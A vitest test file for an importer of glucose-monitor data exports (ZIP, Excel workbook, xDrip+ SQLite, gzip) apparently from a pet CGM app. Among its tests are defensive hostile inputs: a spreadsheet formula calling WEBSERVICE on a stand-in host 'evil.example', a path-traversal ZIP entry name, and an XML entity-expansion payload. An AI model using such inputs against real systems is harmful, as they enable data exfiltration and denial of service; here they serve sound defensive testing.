import { DatabaseSync } from 'node:sqlite';
import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { workbook } from '#tests/server/workbooks.ts';
import type { FileContent, Frame } from './file-content.ts';
import { removeLeftFolders } from './packed-parts.ts';
import { readMerged, readParts } from './read-parts.ts';
import { inMemory } from './stored-bytes.ts';

const NOW = Date.parse('2026-05-14T10:00:00Z');
const FRAME: Frame = { memberId: 'm1', zone: 'UTC', nowMs: NOW };
const TABLE = 'Time,Glucose (mg/dL)\n2026-05-12 08:05,99\n';
/** 2026-05-12 08:05 in days since 1899-12-30. */
const DAYS = (Date.parse('2026-05-12T08:05:00Z') - Date.UTC(1899, 11, 30)) / 86_400_000;

async function read(bytes: Uint8Array, frame: Partial<Frame> = {}): Promise<FileContent> {
  return (await readMerged(inMemory(bytes), { ...FRAME, ...frame })).content;
}

const UNKNOWN = { reason: 'file.notRecognised' };

const readingsOf = ({ batches }: FileContent) =>
  batches.flatMap(({ readings }) =>
    readings.map(({ at, mgdl }) => [new Date(at).toISOString().slice(0, 16), mgdl] as const),
  );
/** Files of an import that should be gone. */
const leftBehind = () => readdirSync(folder);
const at = (time: string) => Date.parse(`2026-05-12T${time}Z`);
const ONE = [['2026-05-12T08:05', 99]];

/** Of this file alone: other tests import files at the same time. */
let folder = '';

beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'petcgm-test-'));
  vi.stubEnv('TMPDIR', folder);
});

afterAll(() => {
  vi.unstubAllEnvs();
  rmSync(folder, { recursive: true });
});

describe('a ZIP', () => {
  const glooko = (rows: string) => strToU8(`Name:x\nTimestamp,CGM Glucose Value (mg/dl),Serial Number\n${rows}`);

  test('of Glooko: its files are read together; problems name theirs, and unknown files are named', async () => {
    const bytes = zipSync({
      'export/cgm_data_1.csv': glooko('2026-05-12 08:05,99,S\n2026-05-12 08:10,x,S\n'),
      'export/cgm_data_2.csv': glooko('2026-05-12 08:15,101,S\n'),
      'export/Insulin data/bolus_data_1.csv': strToU8(
        'x\nTimestamp,Insulin Type,Carbs Input (g),Insulin Delivered (U),Initial Delivery (U)\n2026-05-12 08:05,N,0,1,1\n',
      ),
      'export/alarms_data_1.csv': strToU8('x\nTimestamp,Alarm/Event,Serial Number\n2026-05-12 08:05,x,S\n'),
      'export/empty.csv': new Uint8Array(0),
      'export/picture.png': strToU8('x'),
      '__MACOSX/._cgm_data_1.csv': strToU8('x'),
    });
    const content = await read(bytes);
    expect(content.format).toBe('glooko');
    expect(content.batches).toHaveLength(1);
    expect(readingsOf(content)).toEqual([...ONE, ['2026-05-12T08:15', 101]]);
    expect(content.events.map(({ type, value }) => [type, value])).toEqual([['insulin', 1]]);
    expect(content.troubles).toEqual([
      { part: 'cgm_data_1.csv', line: 4, at: at('08:10'), of: 'reading', problem: 'badValue', text: 'x' },
      { part: 'alarms_data_1.csv', line: 1, of: 'event', problem: 'fileNotRead', text: 'alarms_data_1.csv' },
    ]);
  });

  test('with large files is read in parts, in their order, and leaves nothing on the disk', async () => {
    const rows = (from: number) =>
      Array.from({ length: 24_000 }, (_, index) => {
        const at = NOW - (50_000 - from - index) * 60_000;
        return `${new Date(at).toISOString().slice(0, 16).replace('T', ' ')},${index === 7 ? 'x' : 99},S`;
      }).join('\n');
    const bytes = zipSync({
      'cgm_data_1.csv': glooko(`${rows(0)}\n`),
      'cgm_data_2.csv': glooko(`${rows(24_000)}\n`),
      'other.csv': strToU8('a,b\n1,2\n'),
    });
    const parts = await Array.fromAsync(readParts(inMemory(bytes), FRAME, 100_000));
    expect(parts.length).toBeGreaterThan(3);
    expect(parts.flatMap(({ content }) => readingsOf(content))).toHaveLength(47_998);
    expect(parts.flatMap(({ content }) => content.troubles)).toMatchObject([
      { part: 'cgm_data_1.csv', line: 10, problem: 'badValue' },
      { part: 'cgm_data_2.csv', line: 10, problem: 'badValue' },
      { part: 'other.csv', problem: 'fileNotRead' },
    ]);
    const lines = parts.map(({ linesRead }) => linesRead);
    expect(lines).toEqual(lines.toSorted((a, b) => a - b));
    expect(lines.at(-1)).toBe(48_004);
    expect(leftBehind()).toEqual([]);
  });

  test('of two exports of the portal keeps the sensors of both', async () => {
    const portal = (day: number, sensor: string) =>
      strToU8(
        [
          'timestamp,mg/dL,interval_minutes,kind,sensor,sender,session,event,source,warm_up_minutes,lifetime_days',
          `2026-05-${day}T08:00:00.000Z,,5,,${sensor},,1,sensor,libreview,60,14`,
          `2026-05-${day}T09:05:00.000Z,99,5,history,${sensor},7,1,,,,`,
        ].join('\n'),
      );
    const { restored } = await read(zipSync({ 'a.csv': portal(11, 'A'), 'b.csv': portal(12, 'B') }));
    expect(restored?.sessions.map(({ number, sn }) => [number, sn])).toEqual([
      [1, 'A'],
      [2, 'B'],
    ]);
    expect(restored?.readings.map(({ session, mgdl }) => [session, mgdl])).toEqual([
      [1, 99],
      [2, 99],
    ]);
  });

  test('that is not read to its end leaves nothing on the disk', async () => {
    const bytes = zipSync({ 'a.csv': strToU8(TABLE), 'b.csv': strToU8(TABLE) });
    for await (const { content } of readParts(inMemory(bytes), FRAME)) {
      expect(readingsOf(content)).toEqual(ONE);
      break;
    }
    expect(leftBehind()).toEqual([]);
  });

  test('with an encrypted file, or one packed in a way that is not known, is damaged', async () => {
    const bytes = Buffer.from(zipSync({ 'a.csv': strToU8(TABLE) }));
    const place = bytes.indexOf(Buffer.from('504b0102', 'hex'));
    bytes.writeUInt16LE(99, place + 10);
    await expect(read(bytes)).rejects.toMatchObject({ reason: 'file.damaged' });
  });

  test('in a ZIP, and a workbook in one, are not unpacked', async () => {
    const inner = zipSync({ 'a.csv': strToU8(TABLE) });
    await expect(read(zipSync({ 'inner.zip': inner }))).rejects.toMatchObject(UNKNOWN);
    const content = await read(zipSync({ 'a.csv': strToU8(TABLE), 'more/inner.zip': inner, 'b.csv': inner }));
    expect(readingsOf(content)).toEqual(ONE);
    expect(content.troubles.map(({ text }) => text).sort()).toEqual(['b.csv', 'inner.zip']);
  });

  test('names are only names', async () => {
    expect(readingsOf(await read(zipSync({ '../../petcgm-evil.csv': strToU8(TABLE) })))).toEqual(ONE);
    expect(leftBehind()).toEqual([]);
    expect(existsSync(join(folder, '..', 'petcgm-evil.csv'))).toBe(false);
  });

  test('an ambiguous file in it is asked about', async () => {
    const bytes = zipSync({ 'a.csv': strToU8('Time,Glucose\n2026-05-12 08:05,99\n') });
    await expect(read(bytes)).rejects.toMatchObject({ reason: 'file.unitUnknown' });
    expect(readingsOf(await read(bytes, { unit: 'mg/dL' }))).toEqual(ONE);
  });
});

describe('a workbook', () => {
  test('texts, numbers, and dates by their format; every sheet that is known', async () => {
    const rows = [
      ['Time', 'Glucose (mg/dL)'],
      [{ days: DAYS }, 99],
      ['2026-05-12 08:10', '101'],
    ] as const;
    const content = await read(
      workbook([
        { name: 'Notes', rows: [['nothing']] },
        { name: 'Values', rows: [...rows, [{ days: DAYS }, 'much']] },
      ]),
    );
    expect(readingsOf(content)).toEqual([...ONE, ['2026-05-12T08:10', 101]]);
    expect(content.troubles).toEqual([
      { part: 'Values', line: 4, at: at('08:05'), of: 'reading', problem: 'badValue', text: 'much' },
    ]);
  });

  test('formulas are not evaluated: their stored result counts, without one the cell is empty', async () => {
    const formula = (reference: string, value: string) => ({
      xml: `<c r="${reference}" t="n"><f>WEBSERVICE("http://evil.example")+1</f>${value}</c>`,
    });
    const time = '2026-05-12 08:05';
    const rows = [
      ['Time', 'Glucose (mg/dL)'],
      [time, formula('B2', '<v>99</v>')],
      ['2026-05-12 08:10', formula('B3', '')],
      ['2026-05-12 08:15', { xml: '<c r="B4" t="str"><f>A1</f><v>LO</v></c>' }],
      ['2026-05-12 08:20', { xml: '<c r="B5" t="inlineStr"><is><t>105</t></is></c>' }],
      ['2026-05-12 08:25', { xml: '<c r="B6" t="e"><v>#REF!</v></c>' }],
    ];
    const content = await read(workbook([{ name: 'S', rows }]));
    expect(readingsOf(content)).toEqual([...ONE, ['2026-05-12T08:15', 40], ['2026-05-12T08:20', 105]]);
  });

  test('Diasend: a meter’s sheet and a sensor’s', async () => {
    const rows = [
      ['Time', 'mg/dL'],
      ['12/05/2026 08:05', 99],
      ['13/05/2026 08:05', 99],
    ] as const;
    const content = await read(
      workbook([
        { name: 'Name and glucose', rows },
        { name: 'CGM', rows },
      ]),
    );
    expect(content.format).toBe('diasend');
    expect([content.events.length, readingsOf(content).length]).toEqual([2, 2]);
  });

  test('cells far to the right, far below, or backwards take no memory', async () => {
    const far = (xml: string) => workbook([{ name: 'S', rows: [['Time', 'Glucose (mg/dL)'], [{ xml }]] }]);
    const wide = far(
      '<c r="A2" t="inlineStr"><is><t>2026-05-12 08:05</t></is></c><c r="B2"><v>99</v></c><c r="XFD2"><v>1</v></c>',
    );
    expect(readingsOf(await read(wide))).toEqual(ONE);
    for (const row of ['<row r="99999999"/>', '<row r="1"/>', '<row r="-1"/>']) {
      const xml = `<worksheet><sheetData><row r="1"/>${row}</sheetData></worksheet>`;
      const bytes = workbook([{ name: 'S', rows: [] }], { 'xl/worksheets/sheet1.xml': strToU8(xml) });
      await expect(read(bytes)).rejects.toMatchObject({ reason: 'file.damaged' });
    }
  });

  test('entities that grow are refused', async () => {
    const xml = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><sst><si><t>&b;</t></si></sst>';
    const bytes = workbook([{ name: 'S', rows: [] }], { 'xl/sharedStrings.xml': strToU8(xml) });
    await expect(read(bytes)).rejects.toMatchObject({ reason: 'file.damaged' });
  });
});

describe('a database', () => {
  function database(statements: string): Uint8Array {
    const path = join(folder, 'a.sqlite');
    const db = new DatabaseSync(path);
    db.exec(statements);
    db.close();
    const bytes = readFileSync(path);
    rmSync(path);
    return bytes;
  }
  const at = Date.parse('2026-05-12T08:05:00Z');
  const XDRIP = `
    CREATE TABLE BgReadings (_id INTEGER PRIMARY KEY, timestamp REAL, calculated_value REAL, uuid TEXT);
    CREATE TABLE Treatments (_id INTEGER PRIMARY KEY, timestamp INTEGER, insulin REAL, carbs REAL, notes TEXT);
    CREATE TABLE BloodTest (_id INTEGER PRIMARY KEY, timestamp INTEGER, mgdl REAL);
    INSERT INTO BgReadings (timestamp, calculated_value) VALUES (${at}.0, 99), (${at} + 300000, 10), (${at} + 600000, 400);
    INSERT INTO Treatments (timestamp, insulin, carbs, notes) VALUES (${at}, 2.5, 0, 'tuna'), (${at}, 0, 0, 'asleep');
    INSERT INTO BloodTest (timestamp, mgdl) VALUES (${at}, 102);`;

  test('of xDrip+: readings, doses, notes, meter values', async () => {
    const content = await read(zipSync({ 'export.sqlite': database(XDRIP) }));
    expect(content.format).toBe('xdrip');
    expect(readingsOf(content)).toEqual([...ONE, ['2026-05-12T08:15', 400]]);
    expect(content.batches[0]?.readings.map(({ flag }) => flag)).toEqual([undefined, 2]);
    expect(content.events.map(({ type, value, detail }) => [type, value, detail])).toEqual([
      ['insulin', 2.5, { note: 'tuna' }],
      ['note', null, { note: 'asleep' }],
      ['BG', 102, null],
    ]);
    expect(leftBehind()).toEqual([]);
  });

  test('another one, a view in place of a table, and a computed column are not read', async () => {
    const others = [
      'CREATE TABLE a (b)',
      'CREATE TABLE x (timestamp, calculated_value); CREATE VIEW BgReadings AS SELECT * FROM x',
      'CREATE TABLE BgReadings (timestamp, calculated_value GENERATED ALWAYS AS (timestamp) VIRTUAL)',
    ];
    for (const statements of others) await expect(read(database(statements))).rejects.toMatchObject(UNKNOWN);
  });

  test('a damaged one is refused as a whole', async () => {
    const bytes = Buffer.from(database(XDRIP));
    for (const cut of [100, 1_000, 5_000]) {
      await expect(read(bytes.subarray(0, cut))).rejects.toMatchObject({ reason: 'file.damaged' });
    }
  });
});

test('what a process left behind is removed after a day, and what another one reads is not', async () => {
  const [old, fresh] = [0, 1].map(() => mkdtempSync(join(tmpdir(), 'petcgm-import-')));
  writeFileSync(join(old ?? '', 'upload'), TABLE);
  utimesSync(old ?? '', NOW / 1000, NOW / 1000);
  utimesSync(fresh ?? '', NOW / 1000 + 60, NOW / 1000 + 60);
  await removeLeftFolders(NOW + 86_400_001);
  expect([existsSync(old ?? ''), existsSync(fresh ?? '')]).toEqual([false, true]);
  rmSync(fresh ?? '', { recursive: true });
});

describe('other containers', () => {
  test('gzip', async () => expect(readingsOf(await read(gzipSync(TABLE)))).toEqual(ONE));

  test.each([
    ['an old Excel file', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'file.oldExcel'],
    ['a cut gzip', gzipSync(TABLE.repeat(100)).subarray(0, 50), 'file.damaged'],
    ['a ZIP without its end', zipSync({ 'a.csv': strToU8(TABLE) }).subarray(0, 60), 'file.damaged'],
    ['nothing', new Uint8Array(0), 'file.empty'],
    ['only NUL', new Uint8Array(1_000), 'file.empty'],
  ])('%s', async (_, bytes, reason) => expect(read(bytes)).rejects.toMatchObject({ reason }));
});
